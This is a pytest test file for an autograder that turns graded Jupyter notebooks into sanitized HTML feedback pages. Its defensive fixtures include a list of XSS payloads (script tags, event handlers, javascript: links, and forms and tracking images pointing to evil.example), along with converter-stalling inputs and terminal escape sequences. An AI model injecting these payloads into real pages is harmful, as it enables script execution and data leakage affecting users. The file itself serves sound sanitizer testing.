"""What a learner finds on a feedback page, and what nobody can put there."""

import base64
import json
import os
import re
import shutil
import subprocess
import sys
import warnings
from itertools import pairwise
from pathlib import Path

import pandas as pd
import pytest
from bs4 import BeautifulSoup
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell
from nbgrader.apps import NbGraderAPI
from nbgrader.coursedir import CourseDirectory

from autograder import settings
from autograder.errors import CourseError
from autograder.formgrader.sanitize import code, harmless, plain, prose
from classroom import cli
from classroom.pages import feedback
from classroom.pages.feedback import write_feedback
from course import check, language, places
from course.checking.messages import general, say
from course.checking.notebook_check import GRADER_FOLDER
from course.checking.outcome import Outcome
from course.tokens import LIGHT
from tests.autograder import slow_patterns, small_course
from tests.autograder.small_course import NAME, SECRET, answer, check_cell, graded, outcome, written

# nbgrader's gradebook makes SQLAlchemy warn about its own sessions.
pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")

PNG = base64.b64encode(
    bytes.fromhex(
        "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
        "1f15c4890000000d49444154789c6360000002000100ffff03000006000557bfabd40000000049454e44ae426082"
    )
).decode()

NOT_YET = Outcome(
    1.5,
    exercise="rate",
    state="not-yet",
    out_of=2,
    message=say("06-fpr-flagged", "The rate asks who was <i>not</i> charged again."),
)


@pytest.fixture(scope="module")
def course(tmp_path_factory) -> Path:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return small_course.make(tmp_path_factory.mktemp("course"))


def done_checks() -> list:
    """The test cells of a graded notebook: the first with an outcome, the second failed."""
    said = outcome("rate", "not-yet", "06-fpr-flagged", 1.5, 2, NOT_YET.as_html())
    failed = new_output(
        "error",
        ename="AssertionError",
        evalue="seven were asked\nE       assert count == 7",
        traceback=["Traceback (most recent call last)", f"----> 1 assert count == {SECRET}"],
    )
    noise = [
        new_output("stream", name="stderr", text=f"warning at: assert x == {SECRET}"),
        new_output("stream", name="stdout", text=f"debugging the hidden test {SECRET}"),
        new_output("display_data", {"text/plain": SECRET}),
    ]
    return [
        check_cell("rate", small_course.RATE_TEST, 2, said + noise),
        check_cell("count", small_course.COUNT_TEST, 3, [failed, *noise]),
    ]


def notebook(*cells) -> list:
    rate, count = done_checks()
    return [
        *cells,
        answer("rate", "rate = 0.37  # <b>mine</b>"),
        rate,
        answer("count", "count = 6"),
        count,
        written("Half of **them** were flagged."),
    ]


def page_of(course: Path, student: str) -> BeautifulSoup:
    written_pages, problems = write_feedback(course, NAME, student)
    assert problems == []
    return BeautifulSoup(written_pages[0].read_text(encoding="utf-8"), "html.parser")


POINTS = {"check-rate": 1.5, "check-count": 0}


@pytest.fixture(scope="module")
def english(course) -> BeautifulSoup:
    graded(course, "amina", notebook(), points=POINTS, read=3, comment="Good, <b>but</b> why?\nTwo")
    return page_of(course, "amina")


# What stands on the page


def test_the_score_is_the_gradebooks(english):
    assert english.select_one("p.score").get_text(" ", strip=True) == "4.5 of 9 points"


def test_each_exercise_is_listed_with_its_result_and_points_and_leads_to_its_place(english):
    rows = english.select("main table.plain tbody tr")
    told = [[cell.get_text(" ", strip=True) for cell in row(["th", "td"])] for row in rows]
    assert told == [
        ["rate", "→ Not yet", "1.5 of 2"],
        ["count", "→ Not yet", "0 of 3"],
        ["reflection", "● Graded by a person", "3 of 4"],
    ]
    for row in rows:
        target = english.find(id=row.a["href"].removeprefix("#"))
        assert row.a.string in target.h3.string


def test_a_message_stands_under_the_answer_as_it_was_said(english):
    assert "The rate asks who was <i>not</i> charged again." in english.get_text()


def test_a_comment_is_shown_as_text(english):
    assert english.select_one(".comment p").string == "Good, <b>but</b> why?\nTwo"


def test_the_page_has_landmarks_one_heading_of_the_first_level_and_no_level_left_out(english):
    assert [len(english(name)) for name in ("header", "main", "footer", "h1")] == [1, 1, 1, 1]
    levels = [int(each.name[1]) for each in english(re.compile("^h[1-6]$"))]
    assert all(after <= before + 1 for before, after in pairwise(levels))
    assert all(th.get("scope") for th in english.select("table.plain th"))
    assert english.html["lang"] == "en"


def test_a_text_that_waits_for_a_person_is_said_to_wait(course):
    graded(course, "waiting", notebook(), points=POINTS)
    page = page_of(course, "waiting")
    assert "Waits for a person" in page.get_text()
    assert "A person has still to read a part of this work" in page.get_text()


def test_untouched_work_is_not_attempted_whoever_grades_it(course):
    cells = notebook()
    cells[1].outputs = outcome("rate", "not-attempted", "not-attempted", 0, 2, "<div>…</div>")
    graded(course, "untouched", cells)
    page = page_of(course, "untouched")
    assert page.select("tbody .state")[0].get_text(" ", strip=True) == "○ Not attempted"


def test_the_no_break_spaces_of_a_french_heading_are_spaces(course):
    title = "Quelle part\N{NARROW NO-BREAK SPACE}? Un\N{NO-BREAK SPACE}tiers"
    cells = notebook(new_markdown_cell(f"## {title} (Décider, 2\N{NO-BREAK SPACE}points)"))
    cells.insert(3, new_markdown_cell("## Combien (Décider, 3 points)"))
    graded(course, "espaces", cells, lang="fr", points=POINTS)
    assert page_of(course, "espaces").find("a", href="#exercise-1").get_text() == title


def test_a_right_answer_says_why_it_is_right(course):
    said = Outcome(
        2,
        exercise="rate",
        state="right",
        out_of=2,
        message=general("right"),
        because=say("06-why", "3 of 4 are <marked>."),
    )
    cells = notebook()
    cells[1].outputs = [new_output("display_data", said._repr_mimebundle_())]
    graded(course, "reason", cells, points={"check-rate": 2, "check-count": 0})
    assert "3 of 4 are <marked>." in page_of(course, "reason").select_one(".test").get_text()


@pytest.mark.parametrize(
    ("lang", "question"),
    [
        ("en", "Question 2: read the row"),
        ("fr", "Question 2\u00a0: relisez la ligne"),
        ("es", "Pregunta 2: lea de nuevo la fila"),
        ("pt", "Pergunta 2: releia a linha"),
    ],
)
def test_a_message_about_the_answer_of_a_control_names_its_question(
    course, lang, question, monkeypatch
):
    monkeypatch.setenv(GRADER_FOLDER, str(places.REPOSITORY / "source" / "10-rights-and-rules"))
    monkeypatch.setenv("AI4GOV_LANG", lang)
    said = check("binding", "cnj-615", "courts-too", "other-rules")
    cells = notebook()
    cells[1].outputs = [new_output("display_data", said._repr_mimebundle_())]
    graded(course, f"question-{lang}", cells, lang=lang, points=POINTS)
    shown = page_of(course, f"question-{lang}").select_one(".test").get_text()
    assert question in shown
    assert "canada_department" not in shown


def test_a_graded_cell_that_was_deleted_is_listed_without_a_place(course):
    cells = [cell for cell in notebook() if cell.id != "check-count"]
    graded(course, "deleted", cells, points=POINTS)
    rows = page_of(course, "deleted").select("main tbody tr")
    assert [row.th.string for row in rows] == ["rate", "reflection", "count"]
    assert rows[2].a is None


# The language


FRENCH = """msgid ""
msgstr "Content-Type: text/plain; charset=UTF-8\\n"

msgid "Score"
msgstr "Résultat"

msgid "of {points} points"
msgstr "sur {points} points"

msgid "Graded by a person"
msgstr "Noté par une personne"
"""


@pytest.fixture
def translated(tmp_path, monkeypatch):
    (tmp_path / "fr").mkdir()
    (tmp_path / "fr" / "classroom.po").write_text(FRENCH, encoding="utf-8")
    monkeypatch.setattr(places, "locale", lambda: tmp_path)
    language.catalogue_in.cache_clear()
    yield
    language.catalogue_in.cache_clear()


def test_a_french_notebook_gets_a_french_page_with_a_decimal_comma(course, translated):
    folder = graded(course, "amelie", notebook(), lang="fr", points=POINTS, read=3)
    place = {"student": "amelie", "assignment": NAME, "notebook": NAME}
    told = feedback._gradebook_data(place | {"db_url": f"sqlite:///{course / 'gradebook.db'}"})
    content = (folder / f"{NAME}.ipynb").read_bytes()
    made = feedback.make_page(content, told, ["### BEGIN HIDDEN TESTS", "### END HIDDEN TESTS"])
    page = BeautifulSoup(made.decode(), "html.parser")
    assert page.html["lang"] == "fr"
    assert page.find(id="score").string == "Résultat"
    assert page.select_one("p.score").get_text(" ", strip=True) == "4,5 sur 9 points"
    assert "Noté par une personne" in page.get_text()


@pytest.mark.parametrize("lang", [None, "xx", '"><script>', 7, ["fr"], {"fr": 1}])
def test_a_notebook_in_no_language_of_ours_gets_an_english_page(course, lang):
    student = f"lang-{lang!r}".replace("/", "_")
    graded(course, student, notebook(), metadata={"ai4gov": {"language": lang}} if lang else {})
    assert page_of(course, student).html["lang"] == "en"


# No test in it


def test_nothing_of_a_test_stands_on_the_page(english):
    text = str(english)
    assert SECRET not in text
    for gone in ("HIDDEN TESTS", "AUTOTEST", "assert", "Traceback", "debugging"):
        assert gone not in text


def test_a_failed_test_is_told_in_one_line(english):
    faults = [each.get_text() for each in english.select(".fault")]
    assert faults == ["AssertionError: seven were asked"]


@pytest.mark.parametrize(
    "change",
    [
        lambda cell: cell.metadata.nbgrader.update(solution=True),
        lambda cell: cell.metadata.nbgrader.update(grade=False),
        lambda cell: cell.metadata.nbgrader.update(task=True, grade=False, solution=True),
        lambda cell: cell.metadata.update(nbgrader={"grade_id": "check-rate"}),
    ],
)
def test_a_test_cell_that_says_it_is_something_else_is_still_a_test(course, change, request):
    cells = notebook()
    change(cells[1])
    graded(course, request.node.name.replace("/", "_"), cells)
    assert SECRET not in str(page_of(course, request.node.name.replace("/", "_")))


def test_a_hidden_region_that_is_never_closed_hides_the_rest_of_its_cell(course):
    cell = new_code_cell(f"x = 1\n### BEGIN HIDDEN TESTS\n{SECRET}")
    graded(course, "unclosed", notebook(cell))
    assert SECRET not in str(page_of(course, "unclosed"))


def test_a_cell_that_forges_points_or_stands_twice_is_an_ordinary_cell(course):
    forged = check_cell("forged", "print('mine')", 100)
    forged.metadata.nbgrader.update(score=100, points=100, comment="You are right")
    again = answer("rate", "rate = 'again'")
    again.id = "a-copy"
    odd = new_code_cell("'odd'", metadata={"nbgrader": "yes"})
    graded(course, "forger", [*notebook(forged, odd), again], points=POINTS)
    page = page_of(course, "forger")
    assert [row.th.string for row in page.select("main tbody tr")] == [
        "rate",
        "count",
        "reflection",
    ]
    assert "You are right" not in page.get_text()
    assert "100" not in page.get_text()


# Made harmless


MARK = "alert(1)"
HOSTILE = {
    "script": f"<script>{MARK}</script>",
    "script in two halves": f"<scr<script></script>ipt>{MARK}</script>",
    "unclosed script": f"<script>{MARK}",
    "image with a handler": f"<img src=x onerror={MARK}>",
    "handler with a slash": f"<img/src='x'/onerror={MARK}>",
    "svg": f"<svg onload={MARK}><animate onbegin={MARK} attributeName=x></svg>",
    "mathml": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    f"onerror={MARK}&gt;'>",
    "iframe": f"<iframe srcdoc='<script>{MARK}</script>' src='https://evil.example'></iframe>",
    "object": "<object data='https://evil.example/x.swf'></object><embed src='//evil.example/x'>",
    "javascript link": f"<a href='javascript:{MARK}'>x</a>",
    "javascript link with entities": f"<a href='&#x6A;ava&#x09;script:{MARK}'>x</a>",
    "data link": f"<a href='data:text/html,<script>{MARK}</script>'>x</a>",
    "refresh": "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
    "base": "<base href='https://evil.example/'>",
    "form": "<form action='https://evil.example'><input name='p'><button>Send</button></form>",
    "style": "<style>@import url(https://evil.example/x.css); body { display: none }</style>",
    "style with an address": "<p style='background: url(https://evil.example/p.png)'>x</p>",
    "style with an expression": f"<p style='width: expression({MARK})'>x</p>",
    "style that covers the page": "<div style='position: fixed; top: 0; z-index: 9'>x</div>",
    "style that moves out": "<div style='margin-top: -900px'>x</div>",
    "link": "<link rel='stylesheet' href='https://evil.example/x.css'>",
    "picture from elsewhere": "<img src='https://evil.example/spy.png'>",
    "svg as a picture": f"<img src='data:image/svg+xml;base64,{PNG}'>",
    "text after the page": f"</div></section></main></body></html><script>{MARK}</script>",
    "comment": f"<!--[if IE]><script>{MARK}</script><![endif]-->",
    "noscript": f"<noscript><p title='</noscript><img src=x onerror={MARK}>'>",
    "template": f"<template><script>{MARK}</script></template>",
    "textarea": f"<textarea></textarea><script>{MARK}</script>",
    "id and class of ours": "<p id='score' class='score' name='score'>9 of 9 points</p>",
    "video": f"<video><source onerror={MARK}></video>",
}
SAFE = {"section", "header", "main", "footer", "html", "head", "body", "meta", "title", "style"}


def assert_harmless(page: BeautifulSoup) -> None:
    """Nothing on the page can run, load or send anything."""
    gone = (
        "script iframe object embed svg math form input button textarea link base video audio "
        "template noscript"
    )
    # The page's own icon is in the page itself.
    for icon in page.select("head > link[rel=icon][href^='data:image/svg+xml;base64,']"):
        icon.extract()
    assert page(gone.split()) == []
    assert len(page("style")) == 1
    assert page.style.parent.name == "head"
    assert {each.get("http-equiv") for each in page("meta")} <= {None, "Content-Security-Policy"}
    for element in page(True):
        for name, value in element.attrs.items():
            assert not name.lower().startswith("on"), element
            if name in ("href", "src"):
                assert re.match(r"#|https?://|mailto:|data:image/(png|jpeg);base64,", value), value
            if name == "src":
                assert value.startswith("data:image/")
            if name == "style":
                assert not re.search(r"url|expression|position|@|: -", value), value
    ids = [element["id"] for element in page(id=True)]
    assert len(ids) == len(set(ids))


PEOPLE = pd.DataFrame({"sex": ["f", "m"], "points": [1, 2]}).set_index("sex")


@pytest.mark.parametrize("html", [PEOPLE.to_html(), PEOPLE.style.to_html()], ids=["plain", "style"])
def test_no_heading_of_a_table_is_empty(html):
    table = BeautifulSoup(harmless(html), "html.parser")
    assert [each.get_text() for each in table("th")] == ["points", "sex", "f", "m"]
    assert all(len(row(["th", "td"])) == 2 for row in table("tr"))


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_html_is_harmless(html):
    for made in (harmless(html), prose(f"Text\n\n{html}\n\nand {html}", {})):
        fragment = BeautifulSoup(f"<html><head><style></style></head>{made}</html>", "html.parser")
        assert_harmless(fragment)


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("color: red; position: fixed; top: 0", "color: red"),
        ("COLOR: RED", "color: RED"),
        ("colo\\72: red", "color: red"),
        ("color: red !important", "color: red"),
        ("color: rgb(1, 2, 3)", "color: rgb(1, 2, 3)"),
        ("width: 2000px; padding: 2001px; margin: -1px", "width: 2000px"),
        ("background: url(https://evil.example/x.png)", None),
        ("background: image-set('https://evil.example/x.png' 1x)", None),
        ("width: calc(100vw + 9em)", None),
        ("color: var(--x); --x: red", None),
        ("color: red; " * 200, None),
        ("", None),
    ],
)
def test_a_style_keeps_listed_properties_with_plain_values(style, kept):
    (element,) = BeautifulSoup(harmless(f'<p style="{style}">x</p>'), "html.parser")("p")
    assert element.get("style") == kept


def test_the_words_around_an_unknown_element_stay():
    """Also of names that SVG and MathML have: somebody writes <text> where text is to come."""
    written = "Put <text> here, a <set> of <mi> there, List<pattern>, or <unknown>this</x>."
    words = BeautifulSoup(prose(written, {}), "html.parser").get_text()
    assert " ".join(words.split()) == "Put here, a of there, List, or this."


def test_blocks_that_are_taken_away_stay_on_lines_of_their_own():
    made = harmless("<section>one</section><h2>two</h2><form>three</form>")
    assert made.split("\n") == ["", "one", "two", "three"]


def test_half_a_character_is_replaced():
    assert harmless("<b>a\ud800b</b>") == "<b>a\N{REPLACEMENT CHARACTER}b</b>"


@pytest.mark.parametrize("html", ["<?xml version='1.0'?><p>x</p>", "https://example.org/x.html"])
def test_what_html_looks_like_is_not_told_on_the_terminal(html):
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert "x" in harmless(html)


@pytest.mark.parametrize("lang", ["en", "fr"])
def test_a_notebook_full_of_hostile_content_gives_a_harmless_page(course, lang):
    every = "\n\n".join(HOSTILE.values())
    script = HOSTILE["script"]
    outputs = [
        *(
            new_output("display_data", {"text/html": html, "text/plain": "<HTML>"})
            for html in HOSTILE.values()
        ),
    ]
    others = [
        new_output("display_data", {"application/javascript": MARK}),
        new_output("display_data", {"image/svg+xml": HOSTILE["svg"]}),
        new_output("display_data", {"text/latex": f"$x$ {script}"}),
        new_output("display_data", {"text/markdown": f"[x](javascript:{MARK}) {script}"}),
        new_output("display_data", {"application/vnd.jupyter.widget-view+json": {"m": script}}),
        new_output("display_data", {"image/png": f"x' onerror='{MARK}"}),
        new_output("display_data", {"image/jpeg": base64.b64encode(script.encode()).decode()}),
        new_output("stream", name="stdout", text=f"\x1b]0;title\x07{script}"),
        new_output("error", ename=script, evalue=script, traceback=[script, f"\x1b[31m{script}"]),
        new_output(
            "display_data",
            {"text/html": script, "application/vnd.ai4gov.outcome+json": {"state": "right"}},
        ),
    ]
    attached = new_markdown_cell("![a](attachment:a.png) ![b](attachment:b.png) ![c](attachment:c)")
    attached["attachments"] = {
        "a.png": {f"text/html' onerror='{MARK}": "eA==", "image/svg+xml": "PHN2Zz4="},
        "b.png": {"image/png": PNG},
    }
    cells = notebook(
        new_markdown_cell(f"# Title {script}\n\n{every}"),
        *(new_code_cell(f"{script!r}", outputs=outputs[n : n + 20]) for n in (0, 20)),
        new_code_cell("'</code></pre>' + " + repr(script), outputs=others),
        new_raw_cell(f"raw {script}", metadata={"format": "text/html"}),
        attached,
    )
    cells[-1].source = every
    student = f"{script.replace('/', '_')}-{lang}"
    metadata = {
        "title": f"</title>{script}",
        "kernelspec": {"name": script, "display_name": script, "language": script},
        "language_info": {"name": script, "pygments_lexer": script},
    }
    graded(course, student, cells, lang=lang, comment=every, metadata=metadata)
    page = page_of(course, student)
    assert_harmless(page)
    assert page.html["lang"] == lang
    assert student in page.get_text()
    assert "raw " not in page.get_text()
    policy = page.find("meta", attrs={"http-equiv": "Content-Security-Policy"})["content"]
    assert policy.startswith(
        "default-src 'none'; img-src data:; font-src data:; style-src 'unsafe-inline'"
    )
    attached_pictures = [each["src"] for each in page("img", alt="b")]
    assert attached_pictures == [f"data:image/png;base64,{PNG}"]


def test_what_an_honest_learner_made_stays(course):
    table = "<table class='dataframe'><style scoped>.x {}</style><tr><td>0.37</td></tr></table>"
    figure = f'<img src="data:image/png;base64,{PNG}" alt="Two bars" style="max-width: 100%">'
    outputs = [
        new_output("execute_result", {"text/html": table, "text/plain": "0.37"}),
        new_output("display_data", {"text/html": figure, "text/plain": "Two bars"}),
        new_output("display_data", {"image/png": PNG, "text/plain": "<Figure>"}),
        new_output("stream", name="stdout", text="10%\r50%\r100%\n1 < 2 & 3"),
        new_output(
            "execute_result",
            {"text/html": "<style></style><input><div>Model</div>", "text/plain": "Model(C=1)"},
        ),
    ]
    cells = notebook(
        new_markdown_cell("Is `a < b`?\n\n| a | b |\n|---|---|\n| 1 | 2 |"),
        new_code_cell("print('<b>')", outputs=outputs),
    )
    graded(course, "honest", cells)
    page = page_of(course, "honest")
    assert page.find("td", string="0.37")
    # A table can be wider than the page, and is scrolled with the keyboard too.
    around = [each.find_parent("div", tabindex="0") for each in page.select(".cell table")]
    assert len(around) == 2
    assert [each["aria-label"] for each in around] == ["Text", "Output"]
    assert ".x {}" not in page.get_text()
    assert page.find("img", alt="Two bars")["style"] == "max-width: 100%"
    assert page.find("img", alt=re.compile("without a description"))
    assert "100%\n1 < 2 & 3" in page.get_text()
    assert "50%" not in page.get_text()
    assert "Model(C=1)" in page.get_text()
    assert page.find("code", string="a < b")
    assert "print('<b>')" in page.get_text()


def test_the_frame_of_an_outcome_keeps_its_look():
    for sentence in (f"solid {LIGHT['not-yet']}", f"background: {LIGHT['not-yet-ground']}", "46em"):
        assert sentence in harmless(NOT_YET.as_html())


def test_long_outputs_are_cut_and_it_is_said(course):
    outputs = [
        new_output("stream", name="stdout", text="\n".join(f"line {n}" for n in range(1000))),
        new_output("display_data", {"text/html": "<p>long</p>" * 20_000, "text/plain": "<HTML>"}),
        *[new_output("display_data", {"text/plain": f"display {n}"}) for n in range(100)],
    ]
    graded(course, "long", notebook(new_code_cell("x", outputs=outputs)))
    text = page_of(course, "long").get_text()
    assert "line 59" in text
    assert "line 60" not in text
    assert "940 more lines are not shown here." in text
    assert "An output is too long to be shown here." in text
    assert "display 99" not in text
    assert "More outputs of this cell are not shown here." in text


NESTED = {
    "elements": ("", "<div>", ""),
    "quotations in a line": ("", "> ", "x"),
    "brackets in each other": ("[" * 10_000, "]", ""),
    "a wide table": ("|a" * 9_000 + "\n", "|-", ""),
    "half a tag": ("", "<a ", ""),
    "one tag": ("<p ", "a ", ">"),
}
RENDERED = {
    **{f"Markdown: {name}": (prose, each) for name, each in slow_patterns.MARKDOWN.items()},
    **{f"HTML: {name}": (harmless, each) for name, each in slow_patterns.HTML.items()},
    **{f"nested: {name}": (prose, each) for name, each in NESTED.items()},
    **{f"nested HTML: {name}": (harmless, each) for name, each in NESTED.items()},
    **{f"text: {name}": (plain, each) for name, each in slow_patterns.TEXT.items()},
    **{f"code: {name}": (code, each) for name, each in slow_patterns.CODE.items()},
}


@pytest.mark.parametrize("name", RENDERED)
@pytest.mark.timeout(60)
def test_a_text_made_to_break_a_converter_comes_to_an_end_and_does_not_grow(name):
    # Before they were bounded, many of these took minutes. Now each takes about a second.
    convert, pattern = RENDERED[name]
    text = slow_patterns.long(pattern, 99_000)
    made = convert(text) if convert is not prose else prose(text, {})
    assert len(made) < 10 * len(text)
    if convert is not plain:
        assert not BeautifulSoup(made, "html.parser").find(["script", "iframe", "object"])


def test_a_picture_is_known_however_its_lines_are_broken():
    broken = "\n ".join(re.findall(".{1,20}", PNG))
    assert f"data:image/png;base64,{PNG}" in re.sub(
        r"\s(?!src)", "", harmless(f'<img src="data:image/png;base64,{broken}\n  ">')
    )


def test_a_text_longer_than_is_rendered_is_shown_whole_as_it_was_written():
    paragraphs = [f"Paragraph **{number}** of many.\n\n" for number in range(2_000)]
    page = BeautifulSoup(prose("".join(paragraphs), {}), "html.parser")
    assert page.strong.string == "0"
    assert 500 < len(page("strong")) < 1_000
    shown = page.get_text()
    assert all(re.search(rf"Paragraph (\*\*)?{number}\b", shown) for number in range(2_000))
    assert "Paragraph **1999** of many." in shown


def test_the_longest_text_on_a_page_is_cut_with_a_mark():
    shown = BeautifulSoup(prose("word " * 50_000, {}), "html.parser").get_text()
    assert len(shown) < 101_000
    assert shown.rstrip().endswith("…")


# Files and faults


def test_a_broken_notebook_stops_no_other(tmp_path, course, english):
    folder = graded(course, "broken", notebook())
    (folder / f"{NAME}.ipynb").write_text("{ not a notebook")
    folder = graded(course, "linked", notebook())
    (folder / f"{NAME}.ipynb").unlink()
    (folder / f"{NAME}.ipynb").symlink_to(course / "autograded" / "amina" / NAME / f"{NAME}.ipynb")
    (course / "autograded" / "unknown" / NAME).mkdir(parents=True)
    (course / "autograded" / "unknown" / NAME / f"{NAME}.ipynb").write_text(
        json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
    )
    here = os.getcwd()
    pages, problems = write_feedback(course, NAME)
    assert os.getcwd() == here
    assert {page.parent.parent.name for page in pages} >= {"amina"}
    reasons = dict(problems)
    assert set(reasons) == {"broken", "linked", "unknown"}
    assert reasons["broken"] == f"{NAME}.ipynb: it is not a notebook"
    assert reasons["linked"] == f"{NAME}.ipynb is a link to another file"
    assert reasons["unknown"].startswith("not in the gradebook")
    assert all("\n" not in reason for reason in reasons.values())
    assert not (course / "feedback" / "broken" / NAME / f"{NAME}.html").exists()


def deep(levels: int) -> str:
    """A notebook with lists nested that deep in its metadata."""
    lists = "[" * levels + "]" * levels
    return '{"cells": [], "metadata": {"deep": ' + lists + '}, "nbformat": 4, "nbformat_minor": 5}'


DAMAGED = {
    "deep": deep(200_000),
    "deep enough for the parser": deep(900),
    "a million mappings": '{"cells": [' + "{}," * 1_000_000 + "{}]}",
    "a number of many digits": '{"cells": ' + "9" * 1_000_000 + "}",
    "cells that are a number": '{"cells": 3, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
    "a cell without a type": '{"cells": [{}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
    "a list": "[]",
    "empty": "",
}


@pytest.mark.parametrize("kind", DAMAGED)
def test_a_notebook_that_is_none_is_that_student_s_problem_in_one_line(course, english, kind):
    student = f"damaged-{kind.replace(' ', '-')}"
    folder = graded(course, student, notebook())
    (folder / f"{NAME}.ipynb").write_text(DAMAGED[kind])
    pages, problems = write_feedback(course, NAME, student)
    assert len(pages) + len(problems) == 1
    assert all("\n" not in reason and NAME in reason for _, reason in problems)
    assert page_of(course, "amina").h1


def test_lone_surrogates_and_control_characters_come_onto_the_page_replaced(course):
    odd = "x = '\ud83d \udce9 \x1b[2J \x07 \x00 end'"
    output = new_output("stream", name="stdout", text=odd)
    graded(course, "surrogates", notebook(new_code_cell(odd, outputs=[output])))
    page = page_of(course, "surrogates")
    assert page.get_text().count("end'") == 2
    assert "\x1b" not in page.select_one(".output pre").get_text()


@pytest.mark.weekly
def test_a_notebook_that_takes_too_long_costs_only_its_own_page(course, english, monkeypatch):
    slow = [new_markdown_cell("a|b\n-|-\n" * 600) for _ in range(1_000)]
    folder = graded(course, "endless", notebook(*slow))
    graded(course, "after-endless", notebook())
    monkeypatch.setattr(feedback, "PAGE_SECONDS", 3.0)
    pages, problems = write_feedback(course, NAME)
    assert dict(problems)["endless"] == f"{NAME}.ipynb: it takes longer than 3 seconds"
    assert {"amina", "after-endless"} <= {page.parent.parent.name for page in pages}
    shutil.rmtree(folder)


@pytest.mark.weekly
def test_a_large_notebook_that_grading_has_written_gets_its_page(course):
    cell = new_markdown_cell("A large picture")
    cell["attachments"] = {"a.png": {"image/png": "A" * 49_000_000}}
    outputs = [new_output("stream", name="stdout", text="\N{GRINNING FACE}" * 2**20)]
    cells = [cell, *(new_code_cell("x", outputs=outputs) for _ in range(12))]
    folder = graded(course, "large", notebook(*cells))
    notebook_file = folder / f"{NAME}.ipynb"
    content = json.loads(notebook_file.read_text())
    notebook_file.write_text(json.dumps(content, ensure_ascii=False), encoding="utf-8")
    assert notebook_file.stat().st_size > 98_000_000
    assert "A large picture" in page_of(course, "large").get_text()
    shutil.rmtree(folder)


def test_names_that_a_terminal_would_obey_are_printed_escaped(course, english, monkeypatch, capsys):
    monkeypatch.chdir(course)
    student = "\x1b[2Jevil\nname\u202e"
    (course / "autograded" / student / NAME).mkdir(parents=True)
    (course / "autograded" / "jos\udce9" / NAME).mkdir(parents=True)
    assert cli.main(["feedback", NAME]) == cli.PARTLY
    printed = capsys.readouterr().out
    assert r"  \x1b[2Jevil\nname\u202e: nothing of it is graded yet: grade it first" in printed
    assert r"  jos\udce9: the folder's name is not UTF-8: rename it and grade it again" in printed
    assert not set("\x1b\u202e\udce9") & set(printed)
    assert "amina" in {path.name for path in (course / "feedback").iterdir()}


def test_a_page_that_cannot_be_made_again_stays_as_it_was(course):
    folder = graded(course, "again", notebook())
    [page], _ = write_feedback(course, NAME, "again")
    before = page.read_bytes()
    (folder / f"{NAME}.ipynb").write_text("{")
    assert write_feedback(course, NAME, "again")[0] == []
    assert page.read_bytes() == before
    assert [path.name for path in page.parent.iterdir()] == [page.name]


def test_the_same_notebook_gives_the_same_page(course):
    graded(course, "same", notebook())
    [page], _ = write_feedback(course, NAME, "same")
    before = page.read_bytes()
    write_feedback(course, NAME, "same")
    assert page.read_bytes() == before


def test_an_unknown_assignment_or_student_is_said_in_one_line(tmp_path, course):
    with pytest.raises(CourseError, match=r"no assignment 'ps9' .* \(it has: ps1\)"):
        write_feedback(course, "ps9")
    with pytest.raises(CourseError, match="no submission of 'nobody'"):
        write_feedback(course, NAME, "nobody")
    (tmp_path / settings.CONFIG).write_text("c = get_config()\n")
    with pytest.raises(CourseError, match="no gradebook"):
        write_feedback(tmp_path, NAME)
    assert not (tmp_path / "gradebook.db").exists()


def put_files(course: Path, folder: Path) -> None:
    """Files that a learner may have handed in beside the notebook."""
    (course / "secret.txt").write_text(SECRET)
    (folder / "timestamp.txt").write_text("2026-11-20 10:00:00.000000 UTC")
    (folder / "submission_secret.txt").symlink_to(course / "secret.txt")
    (folder / "link.html").symlink_to(course / "secret.txt")
    (folder / "own.html").write_text(HOSTILE["script"])
    (folder / "data").symlink_to(course)
    (folder / "deep").mkdir()
    (folder / "deep" / "own.js").write_text(MARK)


def test_only_pages_and_the_stamp_of_the_submission_come_into_the_folder(course):
    put_files(course, graded(course, "files", notebook()))
    [page], _ = write_feedback(course, NAME, "files")
    assert sorted(path.name for path in page.parent.rglob("*")) == [f"{NAME}.html", "timestamp.txt"]


def test_nbgraders_own_command_makes_the_same_page(course):
    put_files(course, graded(course, "plain", notebook(), lang="fr", points=POINTS))
    repository = Path(settings.__file__).parents[1]
    done = subprocess.run(
        [sys.executable, "-m", "nbgrader", "generate_feedback", NAME, "--student", "plain"],
        cwd=course,
        env={**os.environ, "PYTHONPATH": str(repository)},
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    page = course / "feedback" / "plain" / NAME / f"{NAME}.html"
    assert sorted(path.name for path in page.parent.rglob("*")) == [page.name, "timestamp.txt"]
    plain = page.read_bytes()
    write_feedback(course, NAME, "plain")
    assert page.read_bytes() == plain


def test_formgraders_button_makes_the_same_page(course):
    graded(course, "button", notebook(), points=POINTS)
    config = settings.load(course)
    result = NbGraderAPI(CourseDirectory(config=config), config=config).generate_feedback(
        NAME, "button"
    )
    assert result["success"], result
    page = course / "feedback" / "button" / NAME / f"{NAME}.html"
    made = page.read_bytes()
    write_feedback(course, NAME, "button")
    assert page.read_bytes() == made
